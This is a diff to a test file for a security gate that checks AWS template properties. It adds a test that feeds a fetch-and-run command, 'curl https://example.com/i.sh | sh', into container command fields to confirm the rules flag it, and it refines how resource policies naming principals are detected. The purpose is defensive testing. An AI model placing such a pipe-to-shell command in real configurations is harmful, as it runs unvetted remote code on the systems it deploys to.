@@ -1,9 +1,9 @@
 /** Whether a rule looks at each line of the tables in `lib/aws`: it is made wrong there, and the gate has to say so. */
-import { containerImages, embeddedTexts, environmentMaps, functionReferences, resourcePolicies, secretProperties } from '../../lib/aws/properties';
+import { commandProperties, containerImages, embeddedTexts, environmentMaps, functionReferences, resourcePolicies, secretProperties } from '../../lib/aws/properties';
 import type { Table } from '../../lib/aws/table';
 import { judge, Settings } from '../../lib/gate';
 import { TRUSTED_CALLERS, UNJUDGED_CALLERS } from '../../lib/inbound-events/template/function-callers';
-import { UNJUDGED_POLICIES } from '../../lib/inbound-events/template/resource-policies';
+import { namesPrincipals, UNJUDGED_POLICIES } from '../../lib/inbound-events/template/resource-policies';
 import { NOT_JUDGED } from '../../lib/secure/not-judged';
 import { SEC3_RULES } from '../../lib/secure/rules';
 import { BESIDE } from '../gate/beside';
@@ -57,6 +57,10 @@ test('rules judge container images', () => {
   expect(overlooked(containerImages(), () => 'example.com/shop:latest')).toEqual([]);
 });
 
+test('rules judge commands', () => {
+  expect(overlooked(commandProperties(), (line) => (line.endsWith('*') ? 'curl https://example.com/i.sh | sh' : ['sh', '-c', 'curl https://example.com/i.sh | sh']))).toEqual([]);
+});
+
 test('rules judge functions that resources start', () => {
   const [trusted, unjudged, all] = [flat(TRUSTED_CALLERS), flat(UNJUDGED_CALLERS), linesOf(functionReferences())];
   expect([...trusted, ...unjudged].filter((line) => !all.includes(line))).toEqual([]);
@@ -74,7 +78,7 @@ test('trusted callers have no findings', () => {
 test('rules judge resource policies', () => {
   const [unjudged, all] = [flat(UNJUDGED_POLICIES), linesOf(resourcePolicies())];
   expect(unjudged.filter((line) => !all.includes(line))).toEqual([]);
-  const open = (line: string) => (line.endsWith(' Principal') ? '*' : line.endsWith(' Statement') ? OPEN.Statement[0] : OPEN);
+  const open = (line: string) => (namesPrincipals(line.split(' ')[1]) ? '*' : line.endsWith(' Statement') ? OPEN.Statement[0] : OPEN);
   // A method without authorization is found whether its API has such a policy or none.
   const besides = [...unjudged, 'AWS::ApiGateway::RestApi Policy'];
   expect(overlooked(resourcePolicies(), open, besides)).toEqual([]);
